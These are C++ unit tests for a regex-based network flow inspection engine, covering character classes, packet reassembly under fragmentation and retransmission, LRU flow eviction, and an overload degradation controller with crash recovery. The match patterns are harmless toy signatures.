TEST(CharClass, ForEachVisitsAscending) {
  CharClass cc;
  cc.add(200);
  cc.add(3);
  cc.add(64);
  std::vector<int> seen;
  cc.for_each([&](unsigned char c) { seen.push_back(c); });
  EXPECT_EQ(seen, (std::vector<int>{3, 64, 200}));
}

TEST(CharClass, HashDiffersForDifferentSets) {
  EXPECT_NE(CharClass::single('a').hash(), CharClass::single('b').hash());
  EXPECT_EQ(CharClass::digits().hash(), CharClass::range('0', '9').hash());
}

TEST(CharClass, ToSourceSingleChar) {
  EXPECT_EQ(CharClass::single('a').to_source(), "a");
  EXPECT_EQ(CharClass::single('\n').to_source(), "\\n");
  EXPECT_EQ(CharClass::single('.').to_source(), "\\.");
}

TEST(CharClass, ToSourceDotAndAll) {
  EXPECT_EQ(CharClass::all().to_source(), ".");
  EXPECT_EQ(CharClass::dot(false).to_source(), "[^\\n]");
}

TEST(CharClass, RemoveByte) {
  CharClass cc = CharClass::range('a', 'c');
  cc.remove('b');
  EXPECT_TRUE(cc.test('a'));
  EXPECT_FALSE(cc.test('b'));
  EXPECT_EQ(cc.count(), 2u);
}

}  // namespace
}  // namespace mfa::regex
