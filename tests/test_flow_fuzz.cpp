// Randomized flow-delivery fuzzing: the FlowInspector must present every
// engine with the same reassembled byte stream no matter how a flow is
// fragmented, reordered, or retransmitted — so NFA, DFA, and MFA must all
// report exactly the matches a linear scan of the stream produces. Plus
// regression coverage for the intrusive LRU, the bounded reassembly buffer,
// and the per-flow storage contract of the Engine/Context split.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "dfa/dfa.h"
#include "engine_test_util.h"
#include "flow/flow.h"
#include "mfa/mfa.h"
#include "nfa/nfa.h"
#include "util/rng.h"

namespace mfa::flow {
namespace {

using mfa::testing::compile_patterns;
using mfa::testing::sorted;

const std::vector<std::string> kSources = {".*ab12.*cd34", ".*wxyz",
                                           ".*ha[0-9]ck"};

/// One flow's payload with planted pattern content.
std::string make_content(util::Rng& rng) {
  std::string s;
  const std::size_t chunks = 2 + rng.below(5);
  for (std::size_t i = 0; i < chunks; ++i) {
    s += rng.lower_string(3 + rng.below(20));
    switch (rng.below(5)) {
      case 0: s += "ab12"; break;
      case 1: s += "cd34"; break;
      case 2: s += "wxyz"; break;
      case 3: s += "ha7ck"; break;
      default: break;  // filler only
    }
  }
  return s;
}

struct Delivery {
  FlowKey key;
  std::uint64_t seq = 0;
  std::string bytes;  // owned: Packet payloads point here
};

/// Fragment `content` into segments, then shuffle within a bounded window
/// and splice in duplicates and overlapping retransmissions. Every original
/// byte is delivered at least once, so reassembly must reproduce `content`.
std::vector<Delivery> plan_flow(const FlowKey& key, const std::string& content,
                                util::Rng& rng) {
  std::vector<Delivery> plan;
  std::size_t off = 0;
  while (off < content.size()) {
    const std::size_t len = std::min(content.size() - off, 1 + rng.below(9));
    plan.push_back({key, off, content.substr(off, len)});
    off += len;
  }
  // Overlapping retransmissions: re-send a random earlier slice.
  const std::size_t extras = rng.below(3);
  for (std::size_t i = 0; i < extras && !content.empty(); ++i) {
    const std::size_t start = rng.below(content.size());
    const std::size_t len = std::min(content.size() - start, 1 + rng.below(12));
    plan.push_back({key, start, content.substr(start, len)});
  }
  // Bounded-window shuffle: swap neighbours up to 4 apart. Keeps the
  // pending buffer small while still exercising out-of-order arrival.
  for (std::size_t i = 0; i + 1 < plan.size(); ++i) {
    const std::size_t j = i + 1 + rng.below(std::min<std::size_t>(4, plan.size() - i - 1));
    if (rng.chance(0.5)) std::swap(plan[i], plan[j]);
  }
  // Duplicate a few deliveries verbatim (pure retransmission).
  const std::size_t dups = rng.below(3);
  for (std::size_t i = 0; i < dups; ++i)
    plan.push_back(plan[rng.below(plan.size())]);
  return plan;
}

template <typename EngineT>
MatchVec run_plan(const EngineT& engine, const std::vector<Delivery>& plan) {
  FlowInspector<EngineT> insp{engine};
  CollectingSink sink;
  for (const auto& d : plan) {
    const Packet p{d.key, d.seq,
                   reinterpret_cast<const std::uint8_t*>(d.bytes.data()),
                   static_cast<std::uint32_t>(d.bytes.size())};
    insp.packet(p, sink);
  }
  return sorted(std::move(sink.matches));
}

TEST(FlowFuzz, EnginesAgreeUnderFragmentationReorderRetransmission) {
  const auto inputs = compile_patterns(kSources);
  const nfa::Nfa n = nfa::build_nfa(inputs);
  const auto d = dfa::build_dfa(n);
  ASSERT_TRUE(d.has_value());
  const auto m = core::build_mfa(inputs);
  ASSERT_TRUE(m.has_value());

  for (std::uint64_t round = 0; round < 25; ++round) {
    util::Rng rng(9000 + round);
    // Several interleaved flows per round.
    MatchVec expected;  // linear per-flow scans, the ground truth
    std::vector<Delivery> plan;
    const std::size_t nflows = 1 + rng.below(4);
    for (std::uint32_t f = 0; f < nflows; ++f) {
      const FlowKey key{f + 1, 99, 1000, 80, 6};
      const std::string content = make_content(rng);
      nfa::NfaScanner ref(n);
      for (const Match& mm : ref.scan(content)) expected.push_back(mm);
      auto flow_plan = plan_flow(key, content, rng);
      plan.insert(plan.end(), flow_plan.begin(), flow_plan.end());
    }
    // Interleave flows: bounded-window shuffle across the merged plan.
    util::Rng mix(777 + round);
    for (std::size_t i = 0; i + 1 < plan.size(); ++i)
      if (mix.chance(0.5)) std::swap(plan[i], plan[i + 1]);

    const MatchVec nfa_got = run_plan(n, plan);
    EXPECT_EQ(nfa_got, sorted(std::move(expected))) << "round " << round;
    EXPECT_EQ(run_plan(*d, plan), nfa_got) << "round " << round;
    EXPECT_EQ(run_plan(*m, plan), nfa_got) << "round " << round;
  }
}

TEST(FlowLru, EvictionFollowsRecencyAcrossManyTouches) {
  const auto m = core::build_mfa(compile_patterns({".*needle"}));
  ASSERT_TRUE(m.has_value());
  FlowInspector<core::Mfa> insp{*m, /*max_flows=*/3};
  CountingSink sink;
  const auto touch = [&](std::uint32_t id) {
    insp.packet(Packet{FlowKey{id, 0, 0, 0, 6}, 0,
                       reinterpret_cast<const std::uint8_t*>("x"), 0},
                sink);
  };
  touch(1);
  touch(2);
  touch(3);
  touch(1);  // order now (LRU→MRU): 2 3 1
  touch(4);  // evicts 2
  EXPECT_EQ(insp.evicted_count(), 1u);
  touch(3);  // order: 1 4 3
  touch(5);  // evicts 1
  EXPECT_EQ(insp.evicted_count(), 2u);
  EXPECT_EQ(insp.flow_count(), 3u);
  // Flows 3, 4, 5 must still be resident: touching them evicts nothing.
  touch(3);
  touch(4);
  touch(5);
  EXPECT_EQ(insp.evicted_count(), 2u);
}

TEST(FlowLru, ManualEvictionKeepsListConsistent) {
  const auto m = core::build_mfa(compile_patterns({".*needle"}));
  ASSERT_TRUE(m.has_value());
  FlowInspector<core::Mfa> insp{*m, /*max_flows=*/3};
  CountingSink sink;
  const auto touch = [&](std::uint32_t id) {
    insp.packet(Packet{FlowKey{id, 0, 0, 0, 6}, 0,
                       reinterpret_cast<const std::uint8_t*>("x"), 0},
                sink);
  };
  touch(1);
  touch(2);
  touch(3);
  insp.evict(FlowKey{2, 0, 0, 0, 6});  // unlink from the middle of the list
  EXPECT_EQ(insp.flow_count(), 2u);
  touch(4);  // table has room again; nothing evicted
  EXPECT_EQ(insp.evicted_count(), 0u);
  touch(5);  // now over cap: LRU head (flow 1) goes
  EXPECT_EQ(insp.evicted_count(), 1u);
  EXPECT_EQ(insp.flow_count(), 3u);
}

TEST(FlowReassembly, PendingCapDropsOldestSegments) {
  const auto m = core::build_mfa(compile_patterns({".*needle"}));
  ASSERT_TRUE(m.has_value());
  FlowInspector<core::Mfa> insp{*m, /*max_flows=*/0, /*max_pending_bytes=*/4};
  CountingSink sink;
  const FlowKey key{1, 2, 3, 4, 6};
  const auto ooo = [&](std::uint64_t seq, const std::string& bytes) {
    insp.packet(Packet{key, seq, reinterpret_cast<const std::uint8_t*>(bytes.data()),
                       static_cast<std::uint32_t>(bytes.size())},
                sink);
  };
  ooo(10, "AA");  // buffered, 2 bytes
  ooo(20, "BB");  // buffered, 4 bytes total = cap
  EXPECT_EQ(insp.reassembly_dropped_count(), 0u);
  ooo(30, "CC");  // cap exceeded: oldest-arrival (seq 10) dropped
  EXPECT_EQ(insp.reassembly_dropped_count(), 1u);
  ooo(40, "DDDDDD");  // bigger than the whole budget: dropped outright
  EXPECT_EQ(insp.reassembly_dropped_count(), 2u);
}

TEST(FlowReassembly, DuplicateReplacementChargesNetGrowthOnly) {
  // Regression: replacing a buffered duplicate with a longer copy used to
  // charge the full new length against the budget before discounting the
  // replaced bytes, spuriously evicting unrelated pending segments.
  const auto m = core::build_mfa(compile_patterns({".*needle"}));
  ASSERT_TRUE(m.has_value());
  FlowInspector<core::Mfa> insp{*m, /*max_flows=*/0, /*max_pending_bytes=*/10};
  CountingSink sink;
  const FlowKey key{1, 2, 3, 4, 6};
  const auto ooo = [&](std::uint64_t seq, const std::string& bytes) {
    insp.packet(Packet{key, seq, reinterpret_cast<const std::uint8_t*>(bytes.data()),
                       static_cast<std::uint32_t>(bytes.size())},
                sink);
  };
  ooo(10, "AAAA");    // buffered, 4 bytes
  ooo(20, "BBBB");    // buffered, 8 of 10 bytes used
  ooo(10, "AAAAAA");  // longer retransmit of seq 10: net growth is 2 -> fits
  EXPECT_EQ(insp.reassembly_dropped_count(), 0u);
  // Both segments must still be pending: delivering the in-order prefix
  // drains 6 bytes at 10 and 4 at 20 (16..19 stays a gap).
  ooo(0, "needle fil");  // bytes 0..9 -> drains [10,16)
  EXPECT_EQ(insp.reassembly_dropped_count(), 0u);
  // A same-length duplicate is a pure no-op: no growth, no drops.
  ooo(20, "BBBB");
  EXPECT_EQ(insp.reassembly_dropped_count(), 0u);
}

TEST(FlowReassembly, UnboundedWhenCapIsZero) {
  const auto m = core::build_mfa(compile_patterns({".*needle"}));
  ASSERT_TRUE(m.has_value());
  FlowInspector<core::Mfa> insp{*m, 0, /*max_pending_bytes=*/0};
  CollectingSink sink;
  const FlowKey key{1, 2, 3, 4, 6};
  const std::string text = "there is a needle in here";
  // Deliver everything except byte 0, in reverse, then the first byte.
  for (std::size_t i = text.size(); i-- > 1;)
    insp.packet(Packet{key, i, reinterpret_cast<const std::uint8_t*>(text.data() + i), 1},
                sink);
  EXPECT_TRUE(sink.matches.empty());
  insp.packet(Packet{key, 0, reinterpret_cast<const std::uint8_t*>(text.data()), 1}, sink);
  ASSERT_EQ(sink.matches.size(), 1u);
  EXPECT_EQ(insp.reassembly_dropped_count(), 0u);
}

TEST(FlowStorage, PerFlowStateIsContextPlusBookkeepingOnly) {
  // The Engine/Context contract: a flow record holds exactly one engine
  // Context plus reassembly bookkeeping — no per-flow engine copy, pointer,
  // or scanner. A mirror struct with those fields must have the same size.
  using Insp = FlowInspector<core::Mfa>;
  struct Bookkeeping {
    core::Mfa::Context ctx;
    std::uint64_t next_offset;
    std::uint64_t pending_bytes;
    std::uint64_t batch_stamp;
    std::uint64_t scan_ticks;
    std::uint64_t context_generation;
    std::vector<Insp::FlowState::PendingSegment> pending;  // sorted by seq
    Insp::FlowState* lru_prev;
    Insp::FlowState* lru_next;
    FlowKey key;
  };
  static_assert(sizeof(Insp::FlowState) == sizeof(Bookkeeping),
                "FlowState must store only the Context and bookkeeping");
  EXPECT_EQ(sizeof(Insp::FlowState), sizeof(Bookkeeping));

  // And the advertised per-flow context footprint is the engine's, shared
  // through one engine reference rather than duplicated per flow.
  const auto m = core::build_mfa(compile_patterns({".*ab.*cd"}));
  ASSERT_TRUE(m.has_value());
  Insp a{*m};
  Insp b{*m};
  EXPECT_EQ(a.context_bytes(), m->context_bytes());
  EXPECT_EQ(&a.engine(), m.operator->());
  EXPECT_EQ(&a.engine(), &b.engine());
}

}  // namespace
}  // namespace mfa::flow
