// Adaptive graceful degradation & crash-consistent recovery (DESIGN.md §14).
//
// Three layers under test:
//  1. DegradeController in isolation — PI stepping, one-rung-at-a-time,
//     dwell gating, hysteresis deadband, pinning, all on a fake clock.
//  2. The inspectors' ScanMode ladder rungs — L2 records prefilter hits
//     without advancing any automaton; L1 with sample_shift=0 degenerates
//     to an exact scan (every flow sampled).
//  3. The closed loop in the pipeline — real overload escalates the ladder
//     and the shard walks back to L0 once the load is gone; a worker crash
//     mid-burst restarts with the journal replayed, preserving sequential
//     parity for every flow the crash did not touch (including flows on
//     the restarted shard itself).
#include "pipeline/degrade.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cstdio>
#include <mutex>
#include <string>
#include <thread>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "engine_test_util.h"
#include "flow/tiered.h"
#include "mfa/mfa.h"
#include "obs/metrics.h"
#include "pipeline/pipeline.h"
#include "trace/trace.h"
#include "util/faultpoint.h"

namespace mfa::pipeline {
namespace {

using mfa::testing::compile_patterns;

using PerFlowMatches =
    std::unordered_map<flow::FlowKey, MatchVec, flow::FlowKeyHash>;

template <typename EngineT>
PerFlowMatches per_flow_reference(const EngineT& engine, const trace::Trace& t) {
  flow::FlowInspector<EngineT> insp{engine};
  PerFlowMatches out;
  t.for_each_packet([&](const flow::Packet& p) {
    insp.packet(p, [&](std::uint32_t id, std::uint64_t end) {
      out[p.key].push_back(Match{id, end});
    });
  });
  for (auto& [key, v] : out) std::sort(v.begin(), v.end());
  return out;
}

const std::vector<std::string> kPatterns = {".*attack[0-9]", ".*worm77",
                                            ".*beacon.ping"};

trace::Trace make_trace(std::uint64_t seed) {
  return trace::make_real_life(trace::RealLifeProfile::kCyberDefense, 3000000,
                               seed, {"attack5 here", "worm77", "beaconXping"});
}

void check_invariant(const ShardStats& s, const char* what) {
  EXPECT_EQ(s.submitted, s.scanned + s.shed_total())
      << what << ": submitted=" << s.submitted << " scanned=" << s.scanned
      << " shed{adm=" << s.shed_admission << " byp=" << s.shed_bypass
      << " cor=" << s.shed_corrupt << " cra=" << s.shed_crash
      << " qua=" << s.shed_quarantine << " fov=" << s.shed_failover << "}";
}

class DegradeTest : public ::testing::Test {
 protected:
  void SetUp() override { util::FaultRegistry::instance().disarm_all(); }
  void TearDown() override { util::FaultRegistry::instance().disarm_all(); }
};

// --- 1. Controller unit tests (fake clock) --------------------------------

DegradeKnobs fast_knobs() {
  DegradeKnobs k;
  k.dwell_ms = 10;
  return k;
}

using Clock = DegradeController::Clock;

TEST_F(DegradeTest, ControllerEscalatesOneRungPerDwellPeriod) {
  DegradeController c({/*p99_ns=*/1000000, 0.05}, fast_knobs());
  Clock::time_point now = Clock::now();
  DegradeSignals hot;
  hot.queue_depth = 400;
  hot.batch_size = 16;
  hot.ns_per_packet = 50000.0;  // est 20.8 ms >> 1 ms SLO
  EXPECT_FALSE(c.update(hot, now)) << "first poll only primes the clock";
  EXPECT_EQ(c.level(), DegradeLevel::kL0Full);

  // Within the dwell window nothing may move, no matter the pressure.
  now += std::chrono::milliseconds(1);
  EXPECT_FALSE(c.update(hot, now));
  EXPECT_EQ(c.level(), DegradeLevel::kL0Full);

  // Each dwell expiry takes exactly one rung, never two.
  std::vector<DegradeLevel> seen;
  for (int step = 0; step < 6; ++step) {
    now += std::chrono::milliseconds(11);
    if (c.update(hot, now)) seen.push_back(c.level());
  }
  ASSERT_GE(seen.size(), 3u);
  EXPECT_EQ(seen[0], DegradeLevel::kL1Sampled);
  EXPECT_EQ(seen[1], DegradeLevel::kL2PrefilterOnly);
  EXPECT_EQ(seen[2], DegradeLevel::kL3Bypass);
  EXPECT_EQ(c.level(), DegradeLevel::kL3Bypass) << "L3 is the floor";
  now += std::chrono::milliseconds(11);
  EXPECT_FALSE(c.update(hot, now)) << "no rung below L3";
}

TEST_F(DegradeTest, ControllerDeescalatesWhenPressureClears) {
  DegradeController c({/*p99_ns=*/1000000, 0.05}, fast_knobs());
  Clock::time_point now = Clock::now();
  DegradeSignals hot;
  hot.queue_depth = 400;
  hot.batch_size = 16;
  hot.ns_per_packet = 50000.0;
  c.update(hot, now);  // prime
  for (int step = 0; step < 8; ++step) {
    now += std::chrono::milliseconds(11);
    c.update(hot, now);
  }
  ASSERT_EQ(c.level(), DegradeLevel::kL3Bypass);

  DegradeSignals idle;  // empty queue, cheap packets
  idle.queue_depth = 0;
  idle.batch_size = 16;
  idle.ns_per_packet = 100.0;
  std::vector<DegradeLevel> seen;
  for (int step = 0; step < 12; ++step) {
    now += std::chrono::milliseconds(11);
    if (c.update(idle, now)) seen.push_back(c.level());
  }
  ASSERT_GE(seen.size(), 3u);
  EXPECT_EQ(seen[0], DegradeLevel::kL2PrefilterOnly);
  EXPECT_EQ(seen[1], DegradeLevel::kL1Sampled);
  EXPECT_EQ(seen[2], DegradeLevel::kL0Full);
  EXPECT_EQ(c.level(), DegradeLevel::kL0Full);
}

TEST_F(DegradeTest, ControllerHoldsLevelInsideHysteresisBand) {
  DegradeController c({/*p99_ns=*/1000000, 0.05}, fast_knobs());
  Clock::time_point now = Clock::now();
  // Pressure pinned at exactly 1.0: err = 0, output = 0, inside the band.
  DegradeSignals at_slo;
  at_slo.queue_depth = 99;
  at_slo.batch_size = 1;
  at_slo.ns_per_packet = 10000.0;  // (99+1) * 10us = 1 ms = the SLO
  c.update(at_slo, now);
  for (int step = 0; step < 20; ++step) {
    now += std::chrono::milliseconds(11);
    EXPECT_FALSE(c.update(at_slo, now)) << "deadband must not flap";
  }
  EXPECT_EQ(c.level(), DegradeLevel::kL0Full);
}

TEST_F(DegradeTest, ControllerShedRatioSignalEscalatesAlone) {
  DegradeController c({/*p99_ns=*/1'000'000'000, 0.05}, fast_knobs());
  Clock::time_point now = Clock::now();
  DegradeSignals shedding;  // latency fine, but 40% of traffic is shed
  shedding.queue_depth = 0;
  shedding.batch_size = 1;
  shedding.ns_per_packet = 100.0;
  shedding.shed_ratio = 0.40;
  c.update(shedding, now);
  now += std::chrono::milliseconds(11);
  EXPECT_TRUE(c.update(shedding, now));
  EXPECT_EQ(c.level(), DegradeLevel::kL1Sampled);
}

TEST_F(DegradeTest, DisabledAndPinnedControllers) {
  DegradeController off;  // slo.p99_ns == 0
  EXPECT_FALSE(off.enabled());
  DegradeSignals hot;
  hot.queue_depth = 1000000;
  hot.batch_size = 1;
  hot.ns_per_packet = 1e9;
  Clock::time_point now = Clock::now();
  EXPECT_FALSE(off.update(hot, now));
  EXPECT_EQ(off.level(), DegradeLevel::kL0Full);

  DegradeKnobs pin = fast_knobs();
  pin.force_level = 2;
  DegradeController pinned({0, 0.05}, pin);
  EXPECT_TRUE(pinned.enabled());
  EXPECT_EQ(pinned.level(), DegradeLevel::kL2PrefilterOnly);
  EXPECT_FALSE(pinned.update(hot, now)) << "pinned ladder never moves";
  EXPECT_EQ(pinned.level(), DegradeLevel::kL2PrefilterOnly);
}

// --- 2. ScanMode ladder rungs in the inspector ----------------------------

TEST_F(DegradeTest, PrefilterOnlyModeRecordsHitsWithoutMatching) {
  const auto m = core::build_mfa(compile_patterns(kPatterns));
  ASSERT_TRUE(m.has_value());
  flow::TieredFlowInspector<core::Mfa> insp{*m};
  insp.set_scan_mode(flow::ScanMode::kPrefilterOnly);
  const std::string hit_payload = "xxxx worm77 yyyy";
  const std::string clean_payload(128, 'q');
  std::size_t matches = 0;
  const flow::FlowKey key{1, 2, 3, 4, 6};
  std::uint64_t off = 0;
  for (int i = 0; i < 8; ++i) {
    const std::string& payload = i % 2 == 0 ? hit_payload : clean_payload;
    insp.packet(flow::Packet{key, off,
                             reinterpret_cast<const std::uint8_t*>(payload.data()),
                             static_cast<std::uint32_t>(payload.size())},
                [&](std::uint32_t, std::uint64_t) { ++matches; });
    off += payload.size();
  }
  EXPECT_EQ(matches, 0u) << "L2 must never advance the automaton to a match";
  EXPECT_GE(insp.degraded_hit_count(), 4u)
      << "every literal-bearing chunk must be recorded as a degraded hit";
}

TEST_F(DegradeTest, SampledModeWithShiftZeroIsExact) {
  const auto m = core::build_mfa(compile_patterns(kPatterns));
  ASSERT_TRUE(m.has_value());
  const trace::Trace t = make_trace(77);
  const PerFlowMatches reference = per_flow_reference(*m, t);
  ASSERT_FALSE(reference.empty());

  // sample_shift=0 -> mask 0 -> (hash & 0) == 0 for every flow: all flows
  // take the exact path, so L1 degenerates to L0 and parity must be exact.
  flow::TieredFlowInspector<core::Mfa> insp{*m};
  insp.set_scan_mode(flow::ScanMode::kSampled, /*sample_shift=*/0);
  PerFlowMatches got;
  t.for_each_packet([&](const flow::Packet& p) {
    insp.packet(p, [&](std::uint32_t id, std::uint64_t end) {
      got[p.key].push_back(Match{id, end});
    });
  });
  for (auto& [key, v] : got) std::sort(v.begin(), v.end());
  EXPECT_EQ(got.size(), reference.size());
  for (const auto& [key, expected] : reference) {
    const auto it = got.find(key);
    ASSERT_NE(it, got.end());
    EXPECT_EQ(it->second, expected);
  }
}

TEST_F(DegradeTest, ReturningToFullModeScansNewTrafficExactly) {
  const auto m = core::build_mfa(compile_patterns(kPatterns));
  ASSERT_TRUE(m.has_value());
  flow::TieredFlowInspector<core::Mfa> insp{*m};
  insp.set_scan_mode(flow::ScanMode::kPrefilterOnly);
  std::size_t matches = 0;
  const auto sink = [&](std::uint32_t, std::uint64_t) { ++matches; };
  const std::string payload = "zzzz worm77 zzzz";
  insp.packet(flow::Packet{flow::FlowKey{1, 1, 1, 1, 6}, 0,
                           reinterpret_cast<const std::uint8_t*>(payload.data()),
                           static_cast<std::uint32_t>(payload.size())},
              sink);
  EXPECT_EQ(matches, 0u);
  insp.set_scan_mode(flow::ScanMode::kFull);
  insp.packet(flow::Packet{flow::FlowKey{2, 2, 2, 2, 6}, 0,
                           reinterpret_cast<const std::uint8_t*>(payload.data()),
                           static_cast<std::uint32_t>(payload.size())},
              sink);
  EXPECT_EQ(matches, 1u) << "a fresh flow after L0 restore must match";
}

// --- 3. Closed loop in the pipeline ---------------------------------------

// Real overload (no fault injection, works in Release too): expensive
// payloads against a tiny queue force sustained depth, the controller must
// escalate; once the producer stops, idle polls must walk the shard back
// to L0 with no residual shedding pressure.
TEST_F(DegradeTest, OverloadEscalatesLadderAndRecoversToL0) {
  const auto m = core::build_mfa(compile_patterns({".*zzz9q"}));
  ASSERT_TRUE(m.has_value());
  const std::string payload(16384, 'a');

  // Calibrate the SLO to this machine: one packet's scan cost, sequentially.
  double ns_per_packet;
  {
    flow::TieredFlowInspector<core::Mfa> probe{*m};
    const auto t0 = std::chrono::steady_clock::now();
    for (std::uint32_t i = 0; i < 64; ++i)
      probe.packet(flow::Packet{flow::FlowKey{i, 0, 1, 2, 6}, 0,
                                reinterpret_cast<const std::uint8_t*>(payload.data()),
                                static_cast<std::uint32_t>(payload.size())},
                   [](std::uint32_t, std::uint64_t) {});
    ns_per_packet = std::chrono::duration<double, std::nano>(
                        std::chrono::steady_clock::now() - t0)
                        .count() /
                    64.0;
  }

  obs::MetricsRegistry metrics(1);
  Options opt;
  opt.shards = 1;
  opt.queue_capacity = 64;
  opt.batch_size = 1;
  opt.metrics = &metrics;
  // SLO: ~6 packets of queueing. A full 64-deep queue sits ~10x over it;
  // an empty queue sits ~6x under it — clear signal on both sides.
  opt.slo.p99_ns = static_cast<std::uint64_t>(ns_per_packet * 6.0) + 1;
  opt.degrade.dwell_ms = 5;
  ShardedInspector<core::Mfa> pipe(*m, opt);
  pipe.start();
  const flow::FlowKey key{1, 2, 3, 4, 6};
  std::uint64_t off = 0;
  for (std::size_t i = 0; i < 3000; ++i) {
    pipe.submit(flow::Packet{key, off,
                             reinterpret_cast<const std::uint8_t*>(payload.data()),
                             static_cast<std::uint32_t>(payload.size())});
    off += payload.size();
  }
  // Load gone: wait (bounded) for the shard to de-escalate back to L0.
  std::uint64_t live_level = ~std::uint64_t{0};
  const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  while (std::chrono::steady_clock::now() < deadline) {
    live_level = 0;
    for (const auto& s : metrics.snapshot().shards)
      live_level = std::max(live_level, s.degrade_level);
    if (live_level == 0) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  pipe.finish();

  const ShardStats total = pipe.totals();
  check_invariant(total, "totals");
  EXPECT_GE(total.degrade_transitions, 2u)
      << "overload must escalate and recovery must de-escalate";
  EXPECT_EQ(live_level, 0u) << "shard stuck degraded after load removal";
  EXPECT_EQ(total.degrade_level, 0u);
  // The escalation is visible in the trace ring as transition events.
  bool saw_escalation = false;
  for (const auto& e : metrics.snapshot().trace_events)
    if (e.match_id == obs::kDegradeTransitionEventId && e.offset >= 1)
      saw_escalation = true;
  EXPECT_TRUE(saw_escalation) << "no degrade_transition trace event recorded";
  std::printf("overload ladder: %llu transitions, final level %llu, "
              "%llu scanned, %llu bypass-shed\n",
              (unsigned long long)total.degrade_transitions,
              (unsigned long long)total.degrade_level,
              (unsigned long long)total.scanned,
              (unsigned long long)total.shed_bypass);
}

// Deterministic ladder walk via the injected overload spike (Debug only):
// the spike site forces pressure 4.0 regardless of real load, so the ladder
// must reach L3 and, once the fault schedule runs dry, return to L0.
TEST_F(DegradeTest, InjectedOverloadSpikeWalksLadderDeterministically) {
  if (!util::faultpoints_enabled())
    GTEST_SKIP() << "fault points compiled out (Release build)";
  const auto m = core::build_mfa(compile_patterns(kPatterns));
  ASSERT_TRUE(m.has_value());
  // Fire on every controller poll for a while, then stop.
  util::FaultRegistry::instance().arm(
      "pipeline.overload.spike",
      {7, 1000000, /*after=*/0, /*max_fires=*/4000, /*param=*/400});

  obs::MetricsRegistry metrics(1);
  Options opt;
  opt.shards = 1;
  opt.metrics = &metrics;
  opt.slo.p99_ns = 1'000'000'000;  // real load can never trip this
  opt.degrade.dwell_ms = 2;
  ShardedInspector<core::Mfa> pipe(*m, opt);
  pipe.start();
  // Reach L3 on spike pressure alone (idle polls drive the controller).
  std::uint64_t peak = 0;
  auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  while (std::chrono::steady_clock::now() < deadline) {
    for (const auto& s : metrics.snapshot().shards)
      peak = std::max(peak, s.degrade_level);
    if (peak == 3) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  EXPECT_EQ(peak, 3u) << "spike pressure must walk the ladder to L3";
  // Fault schedule exhausted (max_fires): pressure drops to ~0, back to L0.
  util::FaultRegistry::instance().disarm("pipeline.overload.spike");
  std::uint64_t level = ~std::uint64_t{0};
  deadline = std::chrono::steady_clock::now() + std::chrono::seconds(20);
  while (std::chrono::steady_clock::now() < deadline) {
    level = 0;
    for (const auto& s : metrics.snapshot().shards)
      level = std::max(level, s.degrade_level);
    if (level == 0) break;
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  EXPECT_EQ(level, 0u);
  pipe.finish();
  check_invariant(pipe.totals(), "totals");
  EXPECT_GE(pipe.totals().degrade_transitions, 6u) << "3 up + 3 down";
}

// Crash consistency: kill a worker mid-burst; the watchdog restart must
// replay the shard journal — resetting exactly the flows of the open burst
// (counted flows_recovered) and keeping every other flow's context — so
// per-flow parity holds ON THE RESTARTED SHARD for all unshed flows, and
// the accounting invariant stays exact.
TEST_F(DegradeTest, CrashRecoveryPreservesParityOnRestartedShard) {
  if (!util::faultpoints_enabled())
    GTEST_SKIP() << "fault points compiled out (Release build)";
  const auto m = core::build_mfa(compile_patterns(kPatterns));
  ASSERT_TRUE(m.has_value());
  const trace::Trace t = make_trace(53);
  const PerFlowMatches reference = per_flow_reference(*m, t);
  util::FaultRegistry::instance().arm(
      "pipeline.worker.crash", {13, 1000000, /*after=*/40, /*max_fires=*/1, 0});

  std::mutex mu;
  std::unordered_set<flow::FlowKey, flow::FlowKeyHash> shed_flows;
  Options opt;
  opt.shards = 2;
  opt.batch_size = 16;
  opt.collect_flow_matches = true;
  opt.watchdog = true;
  opt.watchdog_interval_ms = 1;
  opt.max_worker_restarts = 3;
  opt.shed_sink = [&](const flow::Packet& p, ShedReason) {
    std::lock_guard<std::mutex> lock(mu);
    shed_flows.insert(p.key);
  };
  ShardedInspector<core::Mfa> pipe(*m, opt);
  pipe.start();
  t.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
  pipe.finish();

  const ShardStats total = pipe.totals();
  EXPECT_EQ(total.submitted, t.packet_count());
  check_invariant(total, "totals");
  for (const auto& s : pipe.stats()) check_invariant(s, "shard");
  ASSERT_EQ(total.worker_restarts, 1u) << "the crash must trigger a restart";
  EXPECT_GE(total.flows_recovered, 1u)
      << "an open journal at crash time must reset at least one flow";
  EXPECT_GE(total.shed_crash, 1u);

  // Parity including the restarted shard: the journal reset only flows of
  // the crashed burst, and those flows are exactly the crash-shed ones the
  // sink collected. Everything else must match the sequential reference —
  // a restart may no longer wipe undisturbed flows' contexts.
  bool shard_restarted = false;
  std::vector<bool> shard_failed(pipe.shard_count(), false);
  for (std::size_t i = 0; i < pipe.stats().size(); ++i) {
    shard_restarted |= pipe.stats()[i].worker_restarts > 0;
    shard_failed[i] = pipe.stats()[i].shed_failover > 0;
  }
  ASSERT_TRUE(shard_restarted);
  PerFlowMatches got;
  for (const FlowMatch& fm : pipe.flow_matches()) got[fm.key].push_back(fm.match);
  for (auto& [key, v] : got) std::sort(v.begin(), v.end());
  std::size_t compared = 0;
  for (const auto& [key, expected] : reference) {
    if (shed_flows.count(key) != 0) continue;
    if (shard_failed[pipe.shard_of(key)]) continue;
    const auto it = got.find(key);
    ASSERT_NE(it, got.end()) << "flow untouched by the crash lost its matches";
    EXPECT_EQ(it->second, expected);
    ++compared;
  }
  EXPECT_GT(compared, 0u) << "crash shed every flow — not a useful run";
  std::printf("crash recovery: %llu flows recovered, %llu crash-shed, "
              "%zu/%zu flows byte-identical across the restart\n",
              (unsigned long long)total.flows_recovered,
              (unsigned long long)total.shed_crash, compared, reference.size());
}

// Satellite: one bursty /healthz poll must not flap the verdict. The first
// poll primes the EWMA while the pipeline is clean; a shed burst right
// after may not flip the very next poll (dt is tiny, so the smoothed
// signal barely moves), even though the instantaneous ratio is sky-high.
